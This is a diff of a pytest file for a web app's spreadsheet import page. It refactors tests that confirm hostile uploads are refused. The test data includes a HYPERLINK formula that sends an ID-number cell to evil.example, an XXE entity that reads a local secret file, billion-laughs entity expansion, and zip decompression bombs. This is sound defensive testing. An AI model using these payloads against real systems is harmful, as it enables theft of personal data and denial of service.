@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import time
 import zipfile
 from datetime import date, datetime
 
@@ -18,6 +17,9 @@ from kube.core.forms import KubeForm
 from kube.core.spreadsheet import csv_cell, safe_text, unescaped_text, xlsx_cell
 from kube.groups import importer
 from kube.groups.models import Group, Member
+from tests.workbooks import (
+    WORKBOOK, billion_laughs, empty_rows_bomb, last_row_only, long_string_bomb, sheet_xml, shared_strings, xlsx, xxe_sheet,
+)
 
 FORMULA = '=HYPERLINK("http://evil.example/?nik="&M2,"Lihat peta")'
 #: What the import page says about a workbook it cannot read.
@@ -29,11 +31,21 @@ def member_count(db) -> int:
 
 
 def upload(client, data: bytes, name: str = "anggota.xlsx"):
-    """POST a file to the import page; returns (response, seconds taken)."""
-    started = time.perf_counter()
-    response = client.post("/groups/import", data={"file": (io.BytesIO(data), name)},
-                           content_type="multipart/form-data")
-    return response, time.perf_counter() - started
+    """POST a file to the import page (how long the refusals take is bench/imports.py's business)."""
+    return client.post("/groups/import", data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")
+
+
+@pytest.fixture
+def workbook_opens(monkeypatch) -> list:
+    """Counts the uploads openpyxl is asked to open, and opens none: a bomb must be refused from the zip's
+    directory alone, before any XML is read."""
+    opens = []
+
+    def parse(*args, **kwargs):
+        opens.append(args)
+        raise RuntimeError("the test forbids parsing")
+    monkeypatch.setattr(openpyxl, "load_workbook", parse)
+    return opens
 
 
 def sheet_rows(data: bytes, title: str | None = None) -> list[tuple]:
@@ -51,64 +63,6 @@ def csv_rows(response) -> list[list[str]]:
     return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
 
 
-# -- workbooks built by hand -------------------------------------------------------------------
-
-MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-_CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8"?>
-<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
-<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
-<Default Extension="xml" ContentType="application/xml"/>
-<Override PartName="/xl/workbook.xml"
- ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
-<Override PartName="/xl/worksheets/sheet1.xml"
- ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
-<Override PartName="/xl/sharedStrings.xml"
- ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>
-</Types>"""
-_PACKAGE_RELS = """<?xml version="1.0" encoding="UTF-8"?>
-<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
-<Relationship Id="rId1" Target="xl/workbook.xml"
- Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>
-</Relationships>"""
-WORKBOOK = f"""<?xml version="1.0" encoding="UTF-8"?>
-<workbook xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
-<sheets><sheet name="Anggota" sheetId="1" r:id="rId1"/></sheets></workbook>"""
-_WORKBOOK_RELS = """<?xml version="1.0" encoding="UTF-8"?>
-<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
-<Relationship Id="rId1" Target="worksheets/sheet1.xml"
- Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>
-<Relationship Id="rId2" Target="sharedStrings.xml"
- Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>
-</Relationships>"""
-#: The header row: NIK, No KK, Nama, Kode Kelompok, Alamat in inline strings.
-HEADER_ROW = "<row r=\"1\">" + "".join(
-    f'<c r="{column}1" t="inlineStr"><is><t>{label}</t></is></c>'
-    for column, label in zip("ABCDE", ("NIK", "No KK", "Nama", "Kode Kelompok", "Alamat"))) + "</row>"
-
-
-def sheet_xml(rows: str = "", prolog: str = "") -> str:
-    """A worksheet part: an optional DTD prolog, the header row, then `rows` (raw XML)."""
-    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
-            f'<worksheet xmlns="{MAIN}"><sheetData>{HEADER_ROW}{rows}</sheetData></worksheet>')
-
-
-def shared_strings(*texts: str) -> str:
-    items = "".join(f"<si><t>{text}</t></si>" for text in texts)
-    return f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="{len(texts)}">{items}</sst>'
-
-
-def xlsx(sheet: str | bytes | None = None, workbook: str = WORKBOOK, strings: str | bytes | None = None,
-         extra: dict[str, bytes] | None = None) -> bytes:
-    """A minimal workbook, part by part, so a test can break or inflate any one of them."""
-    parts = {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _PACKAGE_RELS, "xl/workbook.xml": workbook,
-             "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
-             "xl/worksheets/sheet1.xml": sheet if sheet is not None else sheet_xml(),
-             "xl/sharedStrings.xml": strings if strings is not None else shared_strings(), **(extra or {})}
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, content in parts.items():
-            archive.writestr(name, content)
-    return buffer.getvalue()
 
 
 def test_a_hand_built_workbook_is_read(app):
@@ -198,60 +152,51 @@ def test_an_exported_cell_imports_as_it_was_written(db, officer, group):
 
 # -- 5. decompression bombs -----------------------------------------------------------------------
 
-def test_a_zip_of_three_million_empty_rows_is_refused_before_parsing(client, login, db, officer, group):
-    bomb = xlsx(sheet_xml("<row><c/></row>" * 3_000_000))
+def test_a_zip_of_three_million_empty_rows_is_refused_before_parsing(client, login, db, officer, group,
+                                                                     workbook_opens):
+    bomb = empty_rows_bomb()
     assert len(bomb) < 200_000
     login(officer)
-    response, seconds = upload(client, bomb)
-    assert response.status_code == 200 and seconds < 3, seconds
+    response = upload(client, bomb)
+    assert response.status_code == 200
     page = response.get_data(as_text=True)
     assert "Tidak ada yang diimpor" in page and "setelah dibuka" in page
-    assert member_count(db) == 5
+    assert member_count(db) == 5 and workbook_opens == []
 
 
-def test_a_zip_with_a_fifty_megabyte_shared_string_is_refused_before_parsing(client, login, db, officer, group):
-    bomb = xlsx(sheet_xml('<row r="2"><c r="C2" t="s"><v>0</v></c></row>'), strings=shared_strings("A" * 50_000_000))
+def test_a_zip_with_a_fifty_megabyte_shared_string_is_refused_before_parsing(client, login, db, officer, group,
+                                                                             workbook_opens):
+    bomb = long_string_bomb()
     assert len(bomb) < 200_000
     login(officer)
-    response, seconds = upload(client, bomb)
-    assert response.status_code == 200 and seconds < 3, seconds
+    response = upload(client, bomb)
+    assert response.status_code == 200
     assert "setelah dibuka" in response.get_data(as_text=True)
-    assert member_count(db) == 5
+    assert member_count(db) == 5 and workbook_opens == []
 
 
 def test_every_row_counts_toward_the_limit_blank_ones_too(client, login, db, officer, group, monkeypatch):
     monkeypatch.setattr(importer, "WEB_MAX_ROWS", 5)
     login(officer)
     # One row at the bottom of the sheet: the rows above it are read as blank rows, and they count.
-    far = xlsx(sheet_xml('<row r="1048576"><c r="C1048576" t="inlineStr"><is><t>Ujang</t></is></c></row>'))
-    response, seconds = upload(client, far)
+    response = upload(client, last_row_only())
     page = response.get_data(as_text=True)
-    assert response.status_code == 200 and seconds < 3, seconds
+    assert response.status_code == 200
     assert "lebih dari 5 baris" in page and "baris kosong ikut dihitung" in page
     blank_csv = ("NIK,No KK,Nama,Kode Kelompok\n" + ",,,\n" * 6).encode()
-    assert "baris kosong ikut dihitung" in upload(client, blank_csv, "anggota.csv")[0].get_data(as_text=True)
+    assert "baris kosong ikut dihitung" in upload(client, blank_csv, "anggota.csv").get_data(as_text=True)
     assert member_count(db) == 5
 
 
 def test_a_zip_of_too_many_parts_is_refused(client, login, db, officer, group):
     many = xlsx(extra={f"xl/media/image{n}.png": b"" for n in range(importer.MAX_XLSX_ENTRIES)})
     login(officer)
-    response, _seconds = upload(client, many)
+    response = upload(client, many)
     assert "terlalu banyak bagian" in response.get_data(as_text=True)
 
 
 # -- 8. malformed and hostile workbooks --------------------------------------------------------------
 
-def _xxe_sheet(secret_path) -> str:
-    prolog = f'<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file://{secret_path}">]>'
-    return sheet_xml('<row r="2"><c r="C2" t="inlineStr"><is><t>&secret;</t></is></c></row>', prolog)
-
-
-def _billion_laughs() -> str:
-    """Shared strings whose one string expands to 10^9 "ha" (entities of ten entities each)."""
-    entities = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
-    return (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [{entities}]>'
-            f'<sst xmlns="{MAIN}" count="1"><si><t>&l9;</t></si></sst>')
 
 
 @pytest.mark.parametrize("broken", ["sheet", "workbook", "xxe", "laughs", "not xml", "no sheet"])
@@ -261,15 +206,15 @@ def test_malformed_and_hostile_workbooks_get_the_import_error(client, login, db,
     files = {
         "sheet": xlsx(sheet_xml('<row r="2"><c r="C2" t="inlineStr"><is><t>Ujang</t></c></row>')),
         "workbook": xlsx(workbook=WORKBOOK.replace("</sheets>", "")),
-        "xxe": xlsx(_xxe_sheet(secret)),
-        "laughs": xlsx(strings=_billion_laughs()),
+        "xxe": xlsx(xxe_sheet(secret)),
+        "laughs": xlsx(strings=billion_laughs()),
         "not xml": xlsx(sheet=b"\x00\xff PK not xml at all"),
         "no sheet": xlsx(workbook=WORKBOOK.replace('<sheet name="Anggota" sheetId="1" r:id="rId1"/>', "")),
     }
     login(officer)
-    response, seconds = upload(client, files[broken])
+    response = upload(client, files[broken])
     page = response.get_data(as_text=True)
-    assert response.status_code == 200 and seconds < 3, (response.status_code, seconds)
+    assert response.status_code == 200
     assert "Tidak ada yang diimpor" in page and UNREADABLE in page
     assert "RAHASIA-XXE" not in page
     assert member_count(db) == 5
@@ -319,7 +264,7 @@ def test_an_upload_does_not_bring_in_control_characters(client, login, db, offic
     login(officer)
     data = ("NIK,No KK,Nama,Kode Kelompok,Alamat\n"
             f"3673041506850001,3673041003150001,Ujang,{group.code},\"Kp.\x0bTinggar\"\n").encode()
-    page = upload(client, data, "anggota.csv")[0].get_data(as_text=True)
+    page = upload(client, data, "anggota.csv").get_data(as_text=True)
     assert "Tidak ada yang diimpor" in page and "karakter kendali" in page
     assert member_count(db) == 5
 
